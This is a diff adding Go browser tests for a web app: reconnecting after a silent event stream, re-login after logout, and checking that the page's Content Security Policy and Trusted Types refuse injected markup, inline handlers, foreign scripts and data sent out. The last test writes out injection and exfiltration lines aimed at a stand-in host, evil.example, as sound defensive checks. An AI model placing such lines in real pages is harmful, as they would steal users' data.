@@ -57,6 +57,62 @@ func TestStreamRefused(t *testing.T) {
 	complaints(t, r, b, "Failed to load resource")
 }
 
+// A stream that is open and says nothing, not even that it lives, is dead: after 25
+// seconds the page makes a new one and says so calmly meanwhile.
+func TestSilentStream(t *testing.T) {
+	r := newRig(t)
+	b := chromium.Open(t)
+	var streams atomic.Int64
+	front := func(w http.ResponseWriter, req *http.Request) bool {
+		if !isStream(req) || streams.Add(1) > 1 {
+			return false
+		}
+		w.Header().Set("Content-Type", "text/event-stream")
+		fmt.Fprint(w, "retry: 2000\n\n")
+		_ = http.NewResponseController(w).Flush() // the browser sees it open, or the test fails
+		<-req.Context().Done()
+		return true
+	}
+	b.Must("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": `{
+		const every = setInterval, now = Date.now;
+		setInterval = (f, ms) => every(f, ms === 5000 ? 50 : ms); // how often the page looks
+		window.later = 0;
+		Date.now = () => now() + window.later;
+	}`}, nil)
+	r.front.Store(&front)
+	r.open(b)
+	r.begin("shop-api", "Clean up the build")
+	r.pending(1)
+	b.Eval(t, `window.bar = new Promise(done => new MutationObserver(() => done(document.getElementById("connection").textContent)).observe(document.getElementById("connection"), { childList: true })); window.later = 24000; new Promise(done => setTimeout(done, 200))`)
+	b.Want(t, `document.querySelectorAll(".card").length`, 0)
+	if n := streams.Load(); n != 1 {
+		t.Fatalf("there were %d streams before the first was dead", n)
+	}
+	b.Eval(t, `window.later = 26000`)
+	b.Want(t, `window.bar`, "The connection was lost. Trying again…")
+	b.Wait(t, `document.querySelector(".card") && document.getElementById("connection").hidden`)
+	complaints(t, r, b)
+}
+
+// When a login ends, an open page asks for the next one, and leads back to where it
+// was.
+func TestLoginEndsWhilePageIsOpen(t *testing.T) {
+	r := newRig(t)
+	b := chromium.Open(t)
+	r.open(b)
+	path := r.begin("shop-api", "hello")
+	r.settled(path)
+	b.Load(t, r.http.URL+path)
+	b.Eval(t, `fetch("/logout", { method: "POST", redirect: "manual" }).then(() => 0)`) // as in another tab
+	r.settled(r.begin("shop-api", "something else happens"))
+	b.Wait(t, `document.documentElement.dataset.screen === "login" && document.getElementById("token")`)
+	b.Eval(t, `document.getElementById("token").focus()`)
+	b.Type(r.link(ada)) // the whole link
+	b.Press("Enter")
+	b.Wait(t, fmt.Sprintf(`document.documentElement.dataset.screen === "conversation" && location.pathname === %q`, path))
+	complaints(t, r, b, "401 (Unauthorized)")
+}
+
 // When the server no longer has the place at which a page was, the page loads the
 // conversation again and continues after it, with everything shown once.
 func TestStreamReset(t *testing.T) {
@@ -160,4 +216,29 @@ func TestHostileTextInBrowser(t *testing.T) {
 		b.Want(t, `document.querySelectorAll("main script, main img, main iframe, main svg[onload], main [onerror], main [style]").length`, 0)
 	}
 	complaints(t, r, b)
+}
+
+// The policy of the page holds in a browser: markup is made of text by nobody but the
+// page's own script, no other script runs, and nothing is sent elsewhere.
+func TestPolicyHolds(t *testing.T) {
+	r := newRig(t)
+	b := chromium.Open(t)
+	r.open(b)
+	for what, try := range map[string]string{
+		"markup":           `document.body.innerHTML = "<b>x</b>"`,
+		"a second policy":  `trustedTypes.createPolicy("page", { createHTML: x => x })`,
+		"another policy":   `trustedTypes.createPolicy("mine", { createHTML: x => x })`,
+		"a handler":        `document.createElement("b").setAttribute("onclick", "window.pwned = 1")`,
+		"another's script": `document.createElement("script").src = "https://evil.example/x.js"`,
+		"a script":         `document.createElement("script").text = "window.pwned = 1"`,
+	} {
+		b.Want(t, fmt.Sprintf(`(() => { try { %s; return "done" } catch (e) { return e.name } })()`, try), "TypeError")
+		if t.Failed() {
+			t.Fatalf("%s is not refused", what)
+		}
+	}
+	b.Eval(t, `(() => { const i = new Image(); i.src = "https://evil.example/?q=secret"; document.body.append(i) })()`)
+	b.Want(t, `fetch("https://evil.example/").then(() => "sent", e => e.name)`, "TypeError")
+	b.Want(t, `typeof window.pwned`, "undefined")
+	complaints(t, r, b, "Content Security Policy", "requires 'Trusted", "evil.example", "TrustedTypePolicy")
 }
